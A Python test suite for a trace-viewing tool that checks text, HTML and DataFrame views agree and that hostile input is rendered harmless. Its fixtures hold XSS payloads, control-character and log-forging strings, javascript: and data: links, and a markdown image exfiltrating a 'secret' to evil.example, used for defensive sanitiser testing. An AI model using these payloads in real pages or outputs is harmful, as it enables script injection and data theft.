"""Views: the same spans as text, HTML and DataFrame, which must agree, and in which hostile text does nothing."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from workbench import Session, board, catalog
from workbench.content import Argument, Offer, Prompt, visible
from workbench.ledger import KINDS, totals
from workbench.span import Span, Usage, fold, sentence, tree
from workbench.turn import Turn
from workbench.view import frame, html, rows, text

EVIL = "<img src=x onerror=alert(1)><script>alert(2)</script>\u202eevil\x1b[31m"
START = 1_780_000_000.0


def model(number: int, usage: Usage | None = None, **parts: int) -> Span:
    composition = [{"kind": kind, "label": kind, "tokens": n, "chars": 4 * n} for kind, n in parts.items()]
    detail = {"call": number, "composition": composition, "counter": "test counter", "output_tokens_estimated": 3}
    return Span(
        id=f"m{number}", parent="t", turn=1, kind="model", name="demo", actor="host", started=START + number, seconds=0.5,
        status="ok", usage=usage, detail=detail,
    )  # fmt: skip


TURN = Span(id="t", parent=None, turn=1, kind="turn", name="q", actor="user", started=START, seconds=4.0, status="ok")
READ = Span(
    id="r", parent="t", turn=1, kind="read", name="a:1", actor="model", started=START + 1.5, seconds=0.038, status="ok",
    detail={"server": "s", "bytes": 700, "tokens": 156, "counter": "test counter", "rule": "listed", "wait_seconds": 0.03},
)  # fmt: skip
SPANS = (TURN, model(1, system=10, question=2), READ, model(2, system=10, question=2, reads=156))
REPORTED = tuple(
    replace(s, usage=Usage(input_tokens=200, output_tokens=5, cached_tokens=64)) if s.kind == "model" else s
    for s in SPANS
)
CASES: dict[str, Sequence[Span]] = {
    "empty": (),
    "one turn": SPANS,
    "reported": REPORTED,
    "open": (replace(TURN, seconds=None, status="open"), replace(READ, seconds=None, status="open")),
    "failed": (TURN, replace(READ, status="error", detail={"error": EVIL})),
    "hostile": (TURN, replace(READ, name=EVIL, detail={"server": EVIL, "rule": EVIL, "links": [EVIL], "reason": EVIL})),
    "only a part of the tree": SPANS[1:],
}
every_case = pytest.mark.parametrize("spans", CASES.values(), ids=CASES.keys())


class Reader(HTMLParser):
    """What a reader gets from HTML with no stylesheet: its text, and the tags that were used."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.text, self.tags, self.attributes = "", set[str](), set[str]()
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data


@every_case
def test_text_and_html_show_the_same_rows_and_totals(spans: Sequence[Span]) -> None:
    page = Reader(html.trace(spans))
    plain = text.trace(spans)
    for row in rows.rows(spans):
        for cell in (
            row.label,
            row.actor,
            row.status,
            row.seconds,
            row.bytes,
            row.measured,
            row.estimated,
            row.note,
            row.bar,
        ):
            assert cell in plain
            assert " ".join(cell.split()) in " ".join(page.text.split())
    for phrase in rows.summed(spans):
        assert phrase in plain
        assert phrase in page.text


@every_case
def test_hostile_text_becomes_no_markup_and_no_control_character(spans: Sequence[Span]) -> None:
    page = Reader(html.trace(spans))
    assert page.tags <= {
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "p",
        "b",
        "details",
        "summary",
        "ul",
        "ol",
        "li",
        "code",
        "sup",
        "div",
    }
    assert not {name for name in page.attributes if name.startswith("on")}
    for shown in (page.text, text.trace(spans)):
        assert "\u202e" not in shown
        assert "\x1b" not in shown


@every_case
def test_frames_have_one_row_a_span_and_miss_what_is_unknown(spans: Sequence[Span]) -> None:
    table = frame.spans(spans)
    assert len(table) == len(spans)
    assert table.seconds.isna().sum() == sum(s.seconds is None for s in spans)
    shown = [s.usage.input_tokens if s.usage else _sum(s) for s in spans if s.kind == "model"]
    assert frame.composition(spans).input_tokens.tolist() == shown


def _sum(span: Span) -> int:
    return sum(segment["tokens"] for segment in span.detail["composition"])


def test_measured_and_estimated_tokens_stay_in_their_own_columns() -> None:
    (first, read, _) = rows.rows(SPANS)
    assert (first.measured, first.estimated) == ("–", "12 in, 3 out")
    assert (read.measured, read.estimated) == ("–", "156")
    (first, _, _) = rows.rows(REPORTED)
    assert (first.measured, first.estimated) == ("200 in, 5 out (64 cached)", "12 in, 3 out")


def test_the_totals_of_a_turn() -> None:
    sums = totals(SPANS)
    assert (sums.provider_calls, sums.reads, sums.bytes, sums.seconds) == (2, 1, 700, 4.0)
    assert (sums.input_tokens, sums.input_tokens_estimated, sums.counter) == (None, 180, "test counter")
    assert sums.seconds_by_kind == {"model": 1.0, "read": 0.038}
    sums = totals(REPORTED)
    assert (sums.input_tokens, sums.output_tokens, sums.cached_tokens) == (400, 10, 128)
    half = (REPORTED[0], REPORTED[1], SPANS[3])
    assert totals(half).input_tokens is None, "a call that did not report makes the sum unknown"
    assert totals(()).seconds is None


def test_the_bytes_of_reads_are_unknown_when_none_succeeded_and_known_when_there_was_none() -> None:
    failed = replace(READ, id="f", status="error", detail={"server": "s", "error": "boo"})
    refused, stopped = replace(READ, status="refused", detail={}), replace(READ, id="c", status="cancelled", detail={})
    for spans, reads, broke, size, said in [
        ((), 0, 0, 0, "0 reads (0 B)"),
        ((refused,), 0, 0, 0, "0 reads (0 B)"),
        ((failed,), 1, 1, None, "1 read (failed)"),
        ((failed, stopped), 2, 2, None, "2 reads (2 failed)"),
        ((READ,), 1, 0, 700, "1 read (700 B)"),
        ((READ, failed), 2, 1, 700, "2 reads (700 B, 1 failed)"),
        ((replace(READ, status="open", detail={}),), 1, 0, None, "1 read (–)"),
        ((READ, replace(READ, id="q", detail={})), 2, 0, None, "2 reads (–)"),
    ]:
        sums = totals(spans)
        assert (sums.reads, sums.reads_failed, sums.bytes) == (reads, broke, size)
        assert said in rows.summed(spans)
        assert said in text.trace(spans)
        assert said in Reader(html.trace(spans)).text


@given(
    st.lists(st.dictionaries(st.sampled_from(KINDS), st.integers(0, 10**6)), max_size=4),
    st.none() | st.integers(1, 10**7),
)
def test_the_kinds_and_the_difference_always_sum_to_the_input_tokens(
    parts: list[dict[str, int]], told: int | None
) -> None:
    usage = None if told is None else Usage(input_tokens=told)
    table = frame.composition([model(n, usage, **kinds) for n, kinds in enumerate(parts)])
    assert (table[list(KINDS)].sum(axis=1) + table.difference.fillna(0)).tolist() == table.input_tokens.tolist()


def test_a_row_says_who_decided_and_where_the_time_went() -> None:
    assert sentence(READ).startswith("model requested a:1 at")
    assert "for turn 1; host allowed it (rule listed) (38 ms, 700 bytes)" in sentence(READ)
    assert sentence(replace(READ, actor="host")).startswith("host read a:1 at")
    assert "host refused it" in sentence(replace(READ, status="refused"))
    assert "server 30.0 ms" in rows.rows(SPANS)[1].note


def test_a_sentence_names_the_person_who_approved_and_what_was_cancelled() -> None:
    asked = replace(READ, kind="tool", name="x", detail={"decided_by": "user", "rule": "asked in the cell"})
    assert "; user allowed it (rule asked in the cell) (38 ms)" in sentence(asked)
    assert "; user refused it (rule asked in the cell)" in sentence(replace(asked, status="refused"))
    assert "; user allowed it and it failed" in sentence(replace(asked, status="error"))
    assert "; user allowed it and it was cancelled" in sentence(replace(asked, status="cancelled"))
    assert "; user allowed it and it is not done yet" in sentence(replace(asked, status="open", seconds=None))
    undecided = replace(READ, status="cancelled", detail={})
    assert "; it was cancelled before it was decided (38 ms)" in sentence(undecided)
    assert "it is not decided yet" in sentence(replace(undecided, status="open"))


def test_a_name_with_line_breaks_cannot_pose_as_another_row_of_the_log() -> None:
    forged = "nope at 09:00:00Z; host refused it\nuser read secret://payroll\u2028host read x\x1b[2K"
    for actor in ("model", "host"):
        row = sentence(replace(READ, name=forged, actor=actor, detail={"rule": f"template {forged}"}))
        assert len(row.splitlines()) == 1
        assert "'nope at 09:00:00Z; host refused it user read" in row
        assert "\x1b" not in row


def test_the_waterfall_places_each_span_in_the_whole_time() -> None:
    bars = [row.bar for row in rows.rows(SPANS)]
    assert [len(bar) for bar in bars] == [24, 24, 24]
    assert bars[0] == "·" * 6 + "█" * 3 + "·" * 15
    assert bars[1].index("█") == 9


def test_the_last_snapshot_wins_and_order_is_that_of_arrival() -> None:
    opened = replace(READ, status="open", seconds=None)
    assert fold([TURN, opened, READ]) == (TURN, READ)
    assert [(depth, span.id) for depth, span in tree(SPANS)] == [(0, "t"), (1, "m1"), (1, "r"), (1, "m2")]
    loop = replace(READ, parent="r")
    assert [span.id for _, span in tree([loop])] == ["r"]


def test_a_span_comes_back_from_json() -> None:
    for span in (*SPANS, *REPORTED):
        assert Span.from_json(span.to_json()) == span


@pytest.mark.parametrize(
    ("markdown", "shows", "never"),
    [
        ("**bold** and `code`", "<strong>bold</strong>", None),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "<td", None),
        (EVIL, "&lt;img", "<img"),
        ("![x](https://evil.example/?q=secret)", "image: x", "<img"),
        ("![x][r]\n\n[r]: https://evil.example/", "image: x", "<img"),
        ("[click](javascript:alert(1))", ">click</a>", "javascript:"),
        ("[click](vscode://x) [rel](../x)", "#not-a-web-address", "vscode:"),
        ('[click](https://a.example/"onclick="alert)', ">click</a>", '"onclick'),
        ("[click](data:text/html,x)", ">click</a>", "data:"),
        ("[click](ftp://host/x)", 'href="#not-a-web-address"', "ftp:"),
        ("<https://fine.example>", 'href="https://fine.example"', None),
        ("http://host/see this page", "http://host/see this page", None),
        ("README.md", "README.md", None),
        ("```html\n<b>x</b>\n```", "&lt;b&gt;x", "<b>"),
    ],
)
def test_an_answer_is_markdown_that_can_do_nothing(markdown: str, shows: str, never: str | None) -> None:
    """P36."""
    page = html.answer(markdown)
    assert shows in page
    assert never is None or never not in page


@given(st.text())
def test_no_answer_becomes_an_active_element(answer: str) -> None:
    page = Reader(html.answer(answer + EVIL))
    assert not page.tags & {
        "script",
        "img",
        "iframe",
        "object",
        "embed",
        "svg",
        "style",
        "link",
        "form",
        "input",
        "video",
        "audio",
    }
    assert not {name for name in page.attributes if name.startswith("on")}


def test_a_turn_displays_as_answer_and_trace_in_both_forms() -> None:
    done = Turn(number=1, question="q", answer="**yes**", status="ok", spans=SPANS)
    bundle = done._repr_mimebundle_()
    assert "<strong>yes</strong>" in bundle["text/html"]
    assert "**yes**" in bundle["text/plain"] == repr(done)
    failed = replace(done, answer="", status="cancelled")
    assert "No answer: cancelled" in failed._repr_mimebundle_()["text/html"]


def test_the_static_catalog_has_fifty_rows_and_the_count() -> None:
    cells = [
        dict.fromkeys(("state", "server", "label", "uri", "kind", "size", "description", "arguments", "tokens"), EVIL)
    ] * 60
    page = html.catalog(cells, 1234, Offer(problems=(EVIL,)))
    assert page.count("<tr>") == 51
    assert "50 of 1,234 entries" in Reader(page).text
    assert "1,184 more" in Reader(page).text
    assert "<img" not in page


def test_the_static_catalog_says_what_a_prompt_takes_and_why_it_is_no_longer_live() -> None:
    needed = (Argument(name="code", required=True), Argument(name="lines"))
    offer = Offer(prompts=(Prompt(server="s", name="review", arguments=needed), Prompt(server="s", name="plain")))
    with Session() as wb:
        rows = list(catalog.rows(offer, [], [], ["prompt"]).values())
        shown = board.static_catalog(rows, wb, note=f"It is as it was. {EVIL}")
        without = board.static_catalog(rows[1:], wb)
    for page in (Reader(shown["text/html"]).text, shown["text/plain"]):
        assert "code (required), lines" in page and "It is as it was." in page
    assert "<img" not in shown["text/html"]
    assert "arguments" not in without["text/html"] + without["text/plain"]


@given(st.text(max_size=300))
def test_a_name_is_shown_without_control_characters_and_says_what_it_lost(name: str) -> None:
    shown = visible(name, 100)
    assert all(c.isprintable() for c in shown)
    assert len(name) <= 100 or shown.endswith(f"(+{len(name) - 100} characters)")
